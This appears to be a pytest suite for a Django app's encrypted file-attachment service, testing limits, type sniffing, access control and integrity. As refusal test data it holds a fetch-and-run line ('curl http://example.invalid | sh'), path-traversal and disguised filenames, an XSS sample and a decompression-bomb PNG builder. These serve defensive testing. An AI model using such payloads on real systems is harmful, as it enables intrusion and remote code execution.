"""Attachments: Olivia (uk_officer) shares evidence files in the exercise's general room; Li Wei
(gz_officer) receives them; Chen (gz_observer) only reads; Avery (auditor) inspects; Sam
(outsider) belongs to another exercise and must learn nothing."""

from __future__ import annotations

import hashlib
import io
import json
import os
import struct
import uuid
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from django.core.handlers.wsgi import WSGIRequest
from django.core.management import call_command
from django.db import connection, transaction
from django.test import Client, RequestFactory
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from PIL import Image

from liaison import storage
from liaison.crypto import destroy_room_keys
from liaison.crypto.streaming import DEFAULT_CHUNK_SIZE
from liaison.errors import AccessDenied, Invalid
from liaison.models import (
    Attachment,
    AuditEvent,
    Exercise,
    ExerciseStatus,
    Membership,
    Message,
    Room,
    User,
)
from liaison.services import attachments as service
from liaison.views import attachments as views
from tests.factories import UserFactory

MIB = 1024 * 1024
BOUNDARY = "liaison-test-boundary-7d1f"


# --- the world ----------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def store(settings: Any, tmp_path: Path) -> Path:
    """Each test gets an empty attachment store of its own."""
    location = tmp_path / "attachments"
    settings.STORAGES = {
        **settings.STORAGES,
        "attachments": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(location)},
        },
    }
    return location


def stored_files(store: Path) -> list[Path]:
    return [path for path in store.rglob("*") if path.is_file()] if store.exists() else []


def multipart(filename: str, data: bytes, content_type: str = "application/octet-stream") -> bytes:
    """A multipart body with the file name exactly as given (the test client would strip it)."""
    head = (
        f"--{BOUNDARY}\r\n"
        f'Content-Disposition: form-data; name="file"; filename="{filename}"\r\n'
        f"Content-Type: {content_type}\r\n\r\n"
    ).encode()
    return head + data + f"\r\n--{BOUNDARY}--\r\n".encode()


def upload(
    client: Client,
    room: Room,
    filename: str,
    data: bytes,
    content_type: str = "application/octet-stream",
) -> Any:
    return client.post(
        f"/api/v1/rooms/{room.pk}/attachments",
        data=multipart(filename, data, content_type),
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
    )


def download(client: Client, attachment_id: int) -> Any:
    return client.get(f"/api/v1/attachments/{attachment_id}")


def body_of(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def pdf_of_size(size: int) -> bytes:
    """Bytes that sniff as PDF, padded with random data to exactly ``size``."""
    header = b"%PDF-1.7\n"
    return header + os.urandom(size - len(header))


def png_bytes(width: int = 64, height: int = 48, mode: str = "RGB", **save: Any) -> bytes:
    out = io.BytesIO()
    Image.new(mode, (width, height), "teal").save(out, "PNG", **save)
    return out.getvalue()


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width`` × ``height`` pixels: a decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 4096))
        + chunk(b"IEND", b"")
    )


def docx_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        archive.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
    return out.getvalue()


def xlsx_bytes() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["container", "hs_code", "weight_kg"])
    workbook.active.append(["MSKU1234565", "391510", 21400])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def make_message(room: Room, sender: User, seq: int = 1) -> Message:
    """A stored message row to attach files to (the messaging service is not under test)."""
    return Message.objects.create(
        room=room,
        seq=seq,
        sender=sender,
        client_id=f"client-{seq}",
        key_version=1,
        nonce=b"\x00" * 12,
        ciphertext=b"sealed",
        prev_hash="0" * 64,
        chain_hash="0" * 64,
    )


def send(user: User, room: Room, ids: list[int], seq: int = 1) -> list[Attachment]:
    with transaction.atomic():
        message = make_message(room, user, seq)
        return service.claim_for_message(user=user, room=room, attachment_ids=ids, message=message)


@pytest.fixture
def olivia(client: Client, login_as: Any, uk_officer: User) -> Client:
    return login_as(client, uk_officer)


@pytest.fixture
def li_wei(login_as: Any, gz_officer: User) -> Client:
    return login_as(Client(), gz_officer)


@pytest.fixture
def sent_attachment(olivia: Client, uk_officer: User, room: Room) -> dict[str, Any]:
    """Olivia's manifest, uploaded and sent in a message."""
    response = upload(olivia, room, "manifest.pdf", pdf_of_size(4000), "application/pdf")
    assert response.status_code == 201, response.content
    payload = response.json()["attachment"]
    send(uk_officer, room, [payload["id"]])
    return payload


# --- round trips ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "size",
    [0, 1, DEFAULT_CHUNK_SIZE, DEFAULT_CHUNK_SIZE + 1, 20 * MIB],
    ids=["empty", "one-byte", "one-chunk", "chunk-plus-one", "20-MiB"],
)
def test_a_file_comes_back_byte_for_byte_with_its_sha256(
    olivia: Client, li_wei: Client, uk_officer: User, room: Room, store: Path, size: int
) -> None:
    data = b"A" * size if size < 16 else pdf_of_size(size)
    response = upload(olivia, room, "evidence.bin", data)

    assert response.status_code == 201, response.content
    payload = response.json()["attachment"]
    digest = hashlib.sha256(data).hexdigest()
    assert payload["sha256"] == digest
    assert payload["size"] == size
    row = Attachment.objects.get(pk=payload["id"])
    assert (row.sha256, row.size, row.uploader, row.room, row.message) == (
        digest,
        size,
        uk_officer,
        room,
        None,
    )
    assert [path.name for path in stored_files(store)] == [row.storage_name.split("/")[1]]
    event = AuditEvent.objects.get(action="attachment.uploaded")
    assert (event.actor, event.target_id, event.details["size"], event.details["sha256"]) == (
        uk_officer,
        str(row.pk),
        size,
        digest,
    )

    send(uk_officer, room, [row.pk])
    received = download(li_wei, row.pk)
    assert received.status_code == 200
    assert received["Content-Length"] == str(size)
    assert hashlib.sha256(body_of(received)).hexdigest() == digest


def test_download_headers_make_the_browser_save_never_render(
    olivia: Client, uk_officer: User, room: Room
) -> None:
    page = b"<html><script>alert(document.cookie)</script></html>"
    text = upload(olivia, room, "notes — Nansha.html", page, "text/html").json()["attachment"]
    image = upload(olivia, room, "bale.png", png_bytes(), "image/png").json()["attachment"]
    send(uk_officer, room, [text["id"], image["id"]])

    as_text = download(olivia, text["id"])
    assert as_text["Content-Type"] == "application/octet-stream"
    assert as_text["Content-Disposition"] == (
        "attachment; filename=\"notes _ Nansha.html\"; filename*=UTF-8''notes%20%E2%80%94%20Nansha.html"
    )
    assert as_text["X-Content-Type-Options"] == "nosniff"
    assert as_text["Cache-Control"] == "private, no-store"
    assert "sandbox" in as_text["Content-Security-Policy"]
    assert body_of(as_text) == page

    as_image = download(olivia, image["id"])
    assert as_image["Content-Type"] == "image/png"
    assert as_image["Content-Disposition"].startswith("attachment;")


# --- encryption at rest ---------------------------------------------------------------------------


def test_the_store_holds_no_plaintext_and_the_database_no_file_name(
    olivia: Client, room: Room, store: Path
) -> None:
    marker = f"SEIZED-BALE-{uuid.uuid4().hex}"
    text = ("container MSKU1234565; " + marker + "\n") * 5000
    response = upload(olivia, room, f"{marker}.txt", text.encode(), "text/plain")
    assert response.status_code == 201
    image = upload(olivia, room, f"{marker}.png", png_bytes(400, 300), "image/png")
    assert image.json()["attachment"]["has_thumbnail"] is True

    files = stored_files(store)
    assert len(files) == 3  # the text, the image and its thumbnail
    for path in files:
        content = path.read_bytes()
        assert marker.encode() not in content
        assert b"MSKU1234565" not in content
        assert not content.startswith((b"\x89PNG", b"\xff\xd8\xff"))
        assert marker not in str(path)
    for row in Attachment.objects.all():
        assert marker.encode() not in bytes(row.name_ciphertext)
        assert marker not in row.storage_name
    assert all(marker not in json.dumps(event.details) for event in AuditEvent.objects.all())
    assert response.json()["attachment"]["name"] == f"{marker}.txt"


# --- limits ---------------------------------------------------------------------------------------


def test_a_file_over_the_limit_is_refused_with_413_and_leaves_nothing(
    olivia: Client, room: Room, store: Path, settings: Any
) -> None:
    settings.LIAISON_ATTACHMENT_MAX_BYTES = MIB
    response = upload(olivia, room, "scan.pdf", pdf_of_size(MIB + 1), "application/pdf")

    assert response.status_code == 413
    assert response.json()["error"]["code"] == "too_large"
    assert "1 MiB" in response.json()["error"]["detail"]
    assert stored_files(store) == []
    assert not Attachment.objects.exists()
    refused = AuditEvent.objects.get(action="attachment.refused")
    assert refused.details["reason"] == "too_large"

    exactly = upload(olivia, room, "scan.pdf", pdf_of_size(MIB), "application/pdf")
    assert exactly.status_code == 201


class MultipartStream:
    """A multipart body produced on the fly, so a 101 MiB request never sits in memory."""

    def __init__(self, size: int) -> None:
        self.head = multipart("huge.pdf", b"")[: -len(f"\r\n--{BOUNDARY}--\r\n")] + b"%PDF-1.7\n"
        self.tail = f"\r\n--{BOUNDARY}--\r\n".encode()
        self.body_size = size - len(b"%PDF-1.7\n")
        self.length = len(self.head) + self.body_size + len(self.tail)
        self.block = os.urandom(DEFAULT_CHUNK_SIZE)
        self.position = 0

    def read(self, size: int = -1) -> bytes:
        if size < 0:
            size = self.length - self.position
        out = bytearray()
        while len(out) < size and self.position < self.length:
            at = self.position
            if at < len(self.head):
                piece = self.head[at : at + size - len(out)]
            elif at < len(self.head) + self.body_size:
                offset = (at - len(self.head)) % len(self.block)
                remaining = len(self.head) + self.body_size - at
                piece = self.block[offset : offset + min(size - len(out), remaining)]
            else:
                start = at - len(self.head) - self.body_size
                piece = self.tail[start : start + size - len(out)]
            out += piece
            self.position += len(piece)
        return bytes(out)

    def readline(self, size: int = -1) -> bytes:  # part of the WSGI input interface
        raise NotImplementedError


def streamed_upload(user: User, room: Room, file_size: int) -> tuple[Any, MultipartStream]:
    """Call the upload view on a request whose body is generated as the parser reads it."""
    stream = MultipartStream(file_size)
    template = RequestFactory().post(f"/api/v1/rooms/{room.pk}/attachments")
    request = WSGIRequest(
        {
            **template.environ,
            "wsgi.input": stream,
            "CONTENT_LENGTH": str(stream.length),
            "CONTENT_TYPE": f"multipart/form-data; boundary={BOUNDARY}",
        }
    )
    request.user = user
    request._dont_enforce_csrf_checks = True
    return views.upload(request, room_id=room.pk), stream


def test_a_101_mib_upload_is_refused_with_413_before_its_body_is_read(
    uk_officer: User, room: Room, store: Path
) -> None:
    response, stream = streamed_upload(uk_officer, room, 101 * MIB)

    assert response.status_code == 413
    assert json.loads(response.content)["error"]["code"] == "too_large"
    assert stream.position <= 2 * DEFAULT_CHUNK_SIZE  # the part's headers, no more
    assert stored_files(store) == []
    assert not Attachment.objects.exists()
    assert AuditEvent.objects.get(action="attachment.refused").details["reason"] == "too_large"


def test_the_100_mib_limit_is_enforced_while_streaming(
    uk_officer: User, room: Room, store: Path
) -> None:
    """A body that declares an acceptable length but carries one byte too many is cut off at
    the limit, and what was already encrypted is deleted."""
    response, stream = streamed_upload(uk_officer, room, 100 * MIB + 1)

    assert response.status_code == 413
    assert "100 MiB" in json.loads(response.content)["error"]["detail"]
    assert stream.position <= 100 * MIB + 4 * DEFAULT_CHUNK_SIZE
    assert stored_files(store) == []
    assert not Attachment.objects.exists()


def test_the_room_quota_refuses_what_does_not_fit(
    olivia: Client, room: Room, lane_room: Room, store: Path, settings: Any
) -> None:
    settings.LIAISON_ROOM_QUOTA_BYTES = 10_000
    assert upload(olivia, room, "a.pdf", pdf_of_size(6000)).status_code == 201

    refused = upload(olivia, room, "b.pdf", pdf_of_size(6000))
    assert refused.status_code == 413
    assert "quota" in refused.json()["error"]["detail"]
    assert len(stored_files(store)) == 1
    assert upload(olivia, lane_room, "b.pdf", pdf_of_size(6000)).status_code == 201


# --- types ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (b"MZ\x90\x00\x03\x00\x00\x00" + os.urandom(4000), "Windows program"),
        (b"\x7fELF\x02\x01\x01\x00" + os.urandom(4000), "Linux program"),
        (b"#!/bin/sh\ncurl http://example.invalid | sh\n", "script"),
        (b"\xcf\xfa\xed\xfe" + os.urandom(4000), "macOS program"),
    ],
    ids=["exe", "elf", "shebang", "mach-o"],
)
def test_a_renamed_executable_is_refused(
    olivia: Client, room: Room, store: Path, content: bytes, what: str
) -> None:
    response = upload(olivia, room, "invoice.pdf", content, "application/pdf")

    assert response.status_code == 400
    error = response.json()["error"]
    assert error["code"] == "invalid"
    assert what in error["detail"]
    assert "whatever its name says" in error["detail"]
    assert stored_files(store) == []
    assert not Attachment.objects.exists()
    assert AuditEvent.objects.get(action="attachment.refused").details["declared_type"] == (
        "application/pdf"
    )


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"\x1f\x8b\x08\x00" + os.urandom(2000), "data.csv"),  # gzip
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(2000), "old.docx"),  # OLE (xls, msi)
        ("container,weight\n".encode("utf-16"), "utf16.csv"),
        (b"plain text\n" * 10 + b"\xff\xfe bad bytes", "notes.txt"),
    ],
    ids=["gzip", "ole", "utf-16-text", "invalid-utf-8"],
)
def test_anything_off_the_allow_list_is_refused(
    olivia: Client, room: Room, store: Path, content: bytes, name: str
) -> None:
    response = upload(olivia, room, name, content, "text/csv")

    assert response.status_code == 400
    assert "Allowed:" in response.json()["error"]["detail"]
    assert stored_files(store) == []


def test_text_that_turns_binary_after_the_sniffed_head_is_refused(
    olivia: Client, room: Room, store: Path
) -> None:
    content = b"hs_code,description\n" * 10_000 + b"\x00\x01\x02 binary tail"
    assert len(content) > service.SNIFF_BYTES

    response = upload(olivia, room, "declarations.csv", content, "text/csv")

    assert response.status_code == 400
    assert "UTF-8" in response.json()["error"]["detail"]
    assert stored_files(store) == []


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("declarations.csv", b"container,hs\nMSKU1234565,391510\n", service.CSV),
        ("notes", "Nansha inspection: 通关 ok\n".encode(), service.TXT),
        ("sheet.bin", None, service.XLSX),
        ("report.bin", None, service.DOCX),
        ("bundle.docx", None, service.ZIP),
        ("scan.txt", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", service.PDF),
        ("photo.pdf", None, service.JPEG),
    ],
    ids=["csv", "txt", "xlsx", "docx", "zip", "pdf", "jpeg"],
)
def test_the_type_comes_from_the_bytes_not_the_name(
    olivia: Client, room: Room, name: str, content: bytes | None, expected: str
) -> None:
    if expected == service.XLSX:
        content = xlsx_bytes()
    elif expected == service.DOCX:
        content = docx_bytes()
    elif expected == service.ZIP:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("photos/bale-01.txt", "not an office document")
        content = out.getvalue()
    elif expected == service.JPEG:
        out = io.BytesIO()
        Image.new("RGB", (50, 40), "orange").save(out, "JPEG")
        content = out.getvalue()
    assert content is not None

    response = upload(olivia, room, name, content, "application/x-anything")

    assert response.status_code == 201, response.content
    assert response.json()["attachment"]["content_type"] == expected


# --- names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system32\\cmd.txt", "cmd.txt"),
        ("/etc/shadow", "shadow"),
        ("bale\x00.txt", "bale.txt"),
        ("invoice\u202etxt.exe", "invoicetxt.exe"),
        ("zero\u200bwidth\u2066.txt", "zerowidth.txt"),
        ("..", "file"),
        ("   ", "file"),
        (".hidden", "hidden"),
        ('a<b>c:"d"|e?*.txt', "a_b_c__d__e__.txt"),
        ("x" * 500 + ".xlsx", "x" * 195 + ".xlsx"),
        ("y" * 300, "y" * 200),
    ],
)
def test_file_names_are_cleaned_for_display(raw: str, shown: str) -> None:
    assert service.clean_filename(raw) == shown


@pytest.mark.parametrize(
    "raw",
    ["../../etc/passwd", "bale\x00.txt", "r" * 600 + ".txt", "invoice\u202etxt.exe"],
    ids=["traversal", "nul", "very-long", "rtl-override"],
)
def test_hostile_file_names_are_harmless(
    olivia: Client, uk_officer: User, room: Room, store: Path, raw: str, tmp_path: Path
) -> None:
    response = upload(olivia, room, raw, b"harmless text\n", "text/plain")

    assert response.status_code == 201, response.content
    name = response.json()["attachment"]["name"]
    assert name == service.clean_filename(raw.replace("\x00", ""))
    assert "/" not in name
    assert "\x00" not in name
    assert "\u202e" not in name
    assert len(name) <= 200
    (blob,) = stored_files(store)
    assert blob.is_relative_to(store)
    assert blob.name == Attachment.objects.get().storage_name.split("/")[1]
    assert not (tmp_path / "etc").exists()

    send(uk_officer, room, [response.json()["attachment"]["id"]])
    disposition = download(olivia, response.json()["attachment"]["id"])["Content-Disposition"]
    assert "/" not in disposition.split("filename*=")[0]
    assert "\u202e" not in disposition
    assert "%E2%80%AE" not in disposition


# --- who may do what ------------------------------------------------------------------------------


def test_strangers_removed_members_and_other_exercises_get_404(
    client: Client,
    login_as: Any,
    sent_attachment: dict[str, Any],
    gz_officer: User,
    outsider: User,
    room: Room,
    store: Path,
) -> None:
    stranger = UserFactory(email="nobody@example.org", display_name="No Body")
    Membership.objects.filter(user=gz_officer).update(removed_at=timezone.now())
    attachment_id = sent_attachment["id"]

    for user in (stranger, gz_officer, outsider):
        visitor = login_as(Client(), user)
        response = download(visitor, attachment_id)
        assert response.status_code == 404, user
        assert response.json()["error"]["code"] == "not_found"
        assert download(visitor, attachment_id + 999).json() == response.json()
        assert upload(visitor, room, "x.txt", b"text").status_code == 404
        thumbnail = visitor.get(f"/api/v1/attachments/{attachment_id}/thumbnail")
        assert thumbnail.status_code == 404

    denied = AuditEvent.objects.filter(action="access.denied")
    assert {event.actor for event in denied} == {stranger, gz_officer, outsider}
    assert not AuditEvent.objects.filter(action="attachment.downloaded").exists()
    assert len(stored_files(store)) == 1


def test_an_unsent_upload_is_visible_to_its_uploader_only(
    olivia: Client, li_wei: Client, room: Room
) -> None:
    attachment_id = upload(olivia, room, "draft.txt", b"draft\n").json()["attachment"]["id"]

    assert download(olivia, attachment_id).status_code == 200
    assert download(li_wei, attachment_id).status_code == 404


def test_a_removed_member_loses_access_at_once(
    li_wei: Client, gz_officer: User, sent_attachment: dict[str, Any]
) -> None:
    assert download(li_wei, sent_attachment["id"]).status_code == 200

    Membership.objects.filter(user=gz_officer).update(removed_at=timezone.now())

    assert download(li_wei, sent_attachment["id"]).status_code == 404


def test_an_observer_cannot_upload(
    login_as: Any, gz_observer: User, room: Room, store: Path, sent_attachment: dict[str, Any]
) -> None:
    observer = login_as(Client(), gz_observer)

    response = upload(observer, room, "photo.txt", b"observer notes\n")

    assert response.status_code == 403
    assert response.json()["error"]["code"] == "forbidden"
    assert Attachment.objects.count() == 1
    assert len(stored_files(store)) == 1
    assert download(observer, sent_attachment["id"]).status_code == 200


def test_an_auditor_can_download_and_every_download_is_audited(
    login_as: Any, auditor: User, uk_officer: User, room: Room, sent_attachment: dict[str, Any]
) -> None:
    inspector = login_as(Client(), auditor)

    first = download(inspector, sent_attachment["id"])
    second = download(inspector, sent_attachment["id"])

    assert first.status_code == second.status_code == 200
    assert hashlib.sha256(body_of(first)).hexdigest() == sent_attachment["sha256"]
    events = list(AuditEvent.objects.filter(action="attachment.downloaded").order_by("seq"))
    assert len(events) == 2
    assert {(event.actor, event.target_id) for event in events} == {
        (auditor, str(sent_attachment["id"]))
    }
    assert events[0].details["as_auditor"] is True
    assert events[0].exercise == room.exercise
    assert upload(inspector, room, "audit.txt", b"notes\n").status_code == 403


def test_uploading_needs_a_signed_in_user(client: Client, room: Room, store: Path) -> None:
    response = upload(client, room, "x.txt", b"text\n")

    assert response.status_code == 401
    assert stored_files(store) == []


def test_an_upload_without_the_csrf_token_is_refused_and_leaves_nothing(
    login_as: Any, uk_officer: User, room: Room, store: Path
) -> None:
    browser = login_as(Client(enforce_csrf_checks=True), uk_officer)

    response = upload(browser, room, "x.txt", b"forged upload\n")

    assert response.status_code == 403
    assert stored_files(store) == []
    assert not Attachment.objects.exists()


def test_an_upload_with_the_csrf_token_is_accepted(
    login_as: Any, uk_officer: User, room: Room, settings: Any
) -> None:
    browser = login_as(Client(enforce_csrf_checks=True), uk_officer)
    secret = "k" * 32
    browser.cookies[settings.CSRF_COOKIE_NAME] = secret

    response = browser.post(
        f"/api/v1/rooms/{room.pk}/attachments",
        data=multipart("x.txt", b"real upload\n"),
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
        headers={"X-CSRFToken": secret},
    )

    assert response.status_code == 201, response.content


@pytest.mark.parametrize("enforce_csrf", [False, True], ids=["csrf-exempt-client", "csrf-checked"])
def test_a_malformed_multipart_body_is_refused_clearly(
    login_as: Any, uk_officer: User, room: Room, settings: Any, store: Path, enforce_csrf: bool
) -> None:
    browser = login_as(Client(enforce_csrf_checks=enforce_csrf), uk_officer)
    secret = "k" * 32
    browser.cookies[settings.CSRF_COOKIE_NAME] = secret
    broken_base64 = (
        f"--{BOUNDARY}\r\n"
        'Content-Disposition: form-data; name="file"; filename="x.txt"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\n"
        f"dGV4dA=Q\r\n--{BOUNDARY}--\r\n"
    ).encode()

    no_boundary = browser.post(
        f"/api/v1/rooms/{room.pk}/attachments",
        data=b"whatever",
        content_type="multipart/form-data",
        headers={"X-CSRFToken": secret},
    )
    base64_garbage = browser.post(
        f"/api/v1/rooms/{room.pk}/attachments",
        data=broken_base64,
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
        headers={"X-CSRFToken": secret},
    )

    for response in (no_boundary, base64_garbage):
        assert response.status_code == 400, response.content
        assert response.json()["error"]["detail"] == "The multipart body is malformed."
    assert stored_files(store) == []


def test_a_request_without_a_file_is_refused_clearly(olivia: Client, room: Room) -> None:
    empty_form = olivia.post(f"/api/v1/rooms/{room.pk}/attachments", data={"note": "hi"})
    as_json = olivia.post(
        f"/api/v1/rooms/{room.pk}/attachments", data={}, content_type="application/json"
    )

    assert empty_form.status_code == 400
    assert "'file'" in empty_form.json()["error"]["detail"]
    assert as_json.status_code == 400
    assert "multipart/form-data" in as_json.json()["error"]["detail"]


# --- images ---------------------------------------------------------------------------------------


def test_an_image_gets_a_thumbnail_without_its_metadata(
    olivia: Client, uk_officer: User, room: Room
) -> None:
    exif = Image.Exif()
    exif[0x010F] = "SecretCam Mk II"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    exif[0x010E] = "GPS 22.75N 113.60E bale 07"  # ImageDescription
    out = io.BytesIO()
    Image.new("RGB", (800, 400), "navy").save(out, "JPEG", exif=exif.tobytes())
    response = upload(olivia, room, "bale.jpg", out.getvalue(), "image/jpeg")

    assert response.status_code == 201, response.content
    payload = response.json()["attachment"]
    assert (payload["has_thumbnail"], payload["width"], payload["height"]) == (True, 400, 800)
    assert payload["thumbnail_url"] == f"/api/v1/attachments/{payload['id']}/thumbnail"

    thumbnail = olivia.get(payload["thumbnail_url"])
    assert thumbnail.status_code == 200
    assert thumbnail["Content-Type"] == "image/jpeg"
    assert thumbnail["X-Content-Type-Options"] == "nosniff"
    assert b"SecretCam" not in thumbnail.content
    assert b"GPS 22.75N" not in thumbnail.content
    preview = Image.open(io.BytesIO(thumbnail.content))
    assert preview.size == (160, 320)
    assert dict(preview.getexif()) == {}
    assert "icc_profile" not in preview.info


def test_a_transparent_image_keeps_its_transparency_in_a_png_thumbnail(
    olivia: Client, room: Room
) -> None:
    out = io.BytesIO()
    Image.new("RGBA", (640, 640), (255, 0, 0, 0)).save(out, "WEBP")
    response = upload(olivia, room, "logo.webp", out.getvalue(), "image/webp")

    assert response.status_code == 201, response.content
    thumbnail = olivia.get(response.json()["attachment"]["thumbnail_url"])
    assert thumbnail["Content-Type"] == "image/png"
    assert Image.open(io.BytesIO(thumbnail.content)).size == (320, 320)


@pytest.mark.parametrize(
    ("width", "height"), [(100_000, 100_000), (8_000, 8_000)], ids=["pillow-bomb", "over-setting"]
)
def test_a_decompression_bomb_png_is_refused_not_thumbnailed(
    olivia: Client, room: Room, store: Path, width: int, height: int
) -> None:
    bomb = png_declaring(width, height)
    assert len(bomb) < 200

    response = upload(olivia, room, "xray.png", bomb, "image/png")

    assert response.status_code == 400
    assert "pixels" in response.json()["error"]["detail"]
    assert stored_files(store) == []
    assert not Attachment.objects.exists()


def test_a_damaged_image_is_refused(olivia: Client, room: Room, store: Path) -> None:
    broken = png_bytes()[:60] + os.urandom(500)

    response = upload(olivia, room, "xray.png", broken, "image/png")

    assert response.status_code == 400
    assert "damaged" in response.json()["error"]["detail"]
    assert stored_files(store) == []


# --- integrity ------------------------------------------------------------------------------------


@pytest.mark.parametrize("size", [4000, 3 * MIB], ids=["buffered", "streamed"])
@pytest.mark.parametrize("damage", ["flipped-byte", "truncated", "missing"])
def test_a_tampered_blob_gives_a_clear_error_not_bad_bytes(
    olivia: Client, room: Room, store: Path, size: int, damage: str
) -> None:
    attachment_id = upload(olivia, room, "m.pdf", pdf_of_size(size)).json()["attachment"]["id"]
    blob = store / Attachment.objects.get(pk=attachment_id).storage_name
    if damage == "flipped-byte":
        content = bytearray(blob.read_bytes())
        content[len(content) // 2] ^= 0x01
        blob.write_bytes(bytes(content))
    elif damage == "truncated":
        blob.write_bytes(blob.read_bytes()[:-100])
    else:
        blob.unlink()

    response = download(olivia, attachment_id)

    assert response.status_code == 500
    assert not response.streaming
    error = response.json()["error"]
    assert error["code"] == "damaged"
    assert "integrity check" in error["detail"]
    assert AuditEvent.objects.filter(action="attachment.damaged").count() == 1
    assert not AuditEvent.objects.filter(action="attachment.downloaded").exists()


def test_a_blob_moved_to_another_attachment_does_not_decrypt(
    olivia: Client, room: Room, store: Path
) -> None:
    first = upload(olivia, room, "a.pdf", pdf_of_size(5000)).json()["attachment"]["id"]
    second = upload(olivia, room, "b.pdf", pdf_of_size(5000)).json()["attachment"]["id"]
    a, b = (store / row.storage_name for row in Attachment.objects.order_by("pk"))
    b.write_bytes(a.read_bytes())

    assert download(olivia, first).status_code == 200
    assert download(olivia, second).json()["error"]["code"] == "damaged"


# --- messages -------------------------------------------------------------------------------------


def test_a_message_claims_its_senders_uploads_and_shows_them(
    olivia: Client,
    uk_officer: User,
    room: Room,
) -> None:
    ids = [
        upload(olivia, room, f"p{i}.txt", b"page\n").json()["attachment"]["id"] for i in range(3)
    ]
    with transaction.atomic():
        message = make_message(room, uk_officer)
        claimed = service.claim_for_message(
            user=uk_officer, room=room, attachment_ids=ids, message=message
        )

    assert [attachment.pk for attachment in claimed] == ids
    assert set(Attachment.objects.values_list("message_id", flat=True)) == {message.pk}
    with CaptureQueriesContext(connection) as queries:
        payloads = service.payloads_for_messages([message.pk, 9999])
    # One query for every attachment of every message (data keys come from the key cache).
    assert [q["sql"] for q in queries if "liaison_attachment" in q["sql"]] == [queries[0]["sql"]]
    assert list(payloads) == [message.pk]
    assert [payload["id"] for payload in payloads[message.pk]] == ids
    assert payloads[message.pk][0]["name"] == "p0.txt"
    assert service.payloads_for_messages([]) == {}


def test_claiming_refuses_others_uploads_other_rooms_and_sent_files(
    olivia: Client,
    li_wei: Client,
    uk_officer: User,
    gz_officer: User,
    room: Room,
    lane_room: Room,
) -> None:
    mine = upload(olivia, room, "mine.txt", b"mine\n").json()["attachment"]["id"]
    theirs = upload(li_wei, room, "theirs.txt", b"theirs\n").json()["attachment"]["id"]
    elsewhere = upload(olivia, lane_room, "lane.txt", b"lane\n").json()["attachment"]["id"]
    send(uk_officer, room, [mine], seq=1)

    cases = [
        ([theirs], f"Attachment {theirs} is not one of your uploads in this room."),
        ([elsewhere], f"Attachment {elsewhere} is not one of your uploads in this room."),
        ([mine], f"Attachment {mine} is already attached to a message."),
        ([987654], "Attachment 987654 is not one of your uploads in this room."),
        (["1"], "attachments must be a list of attachment ids."),
    ]
    for seq, (ids, detail) in enumerate(cases, start=2):
        with pytest.raises(Invalid) as refused, transaction.atomic():
            send(uk_officer, room, ids, seq=seq)
        assert refused.value.detail == detail
    assert Attachment.objects.get(pk=theirs).message is None
    assert Attachment.objects.get(pk=elsewhere).message is None


# --- purging --------------------------------------------------------------------------------------


def test_purge_uploads_removes_unsent_files_after_a_day(
    olivia: Client, uk_officer: User, room: Room, store: Path
) -> None:
    stale = upload(olivia, room, "stale.png", png_bytes(), "image/png").json()["attachment"]
    sent = upload(olivia, room, "sent.txt", b"sent\n").json()["attachment"]
    fresh = upload(olivia, room, "fresh.txt", b"fresh\n").json()["attachment"]
    send(uk_officer, room, [sent["id"]])
    a_day_ago = timezone.now() - timezone.timedelta(hours=25)
    Attachment.objects.filter(pk__in=[stale["id"], sent["id"]]).update(created_at=a_day_ago)
    stale_row = Attachment.objects.get(pk=stale["id"])
    orphan = store / "zz" / "orphan-left-by-a-crash"
    orphan.parent.mkdir(parents=True)
    orphan.write_bytes(b"ciphertext")
    os.utime(orphan, (a_day_ago.timestamp(), a_day_ago.timestamp()))
    young_orphan = store / "zz" / "upload-in-flight.part"
    young_orphan.write_bytes(b"ciphertext")

    out = io.StringIO()
    call_command("purge_uploads", "--json", stdout=out)

    report = json.loads(out.getvalue())
    assert report["purged"] == [stale["id"]]
    assert report["orphans_removed"] == 1
    assert report["bytes_freed"] == stale["size"]
    stale_row.refresh_from_db()
    assert stale_row.purged_at is not None
    assert not (store / stale_row.storage_name).exists()
    assert not (store / stale_row.thumbnail_storage_name).exists()
    assert not orphan.exists()
    assert young_orphan.exists()
    remaining = {path.name for path in stored_files(store)}
    for payload in (sent, fresh):
        assert Attachment.objects.get(pk=payload["id"]).storage_name.split("/")[1] in remaining
    event = AuditEvent.objects.get(action="attachment.purged")
    assert (event.actor, event.actor_label, event.target_id) == (
        None,
        "system:purge_uploads",
        str(stale["id"]),
    )
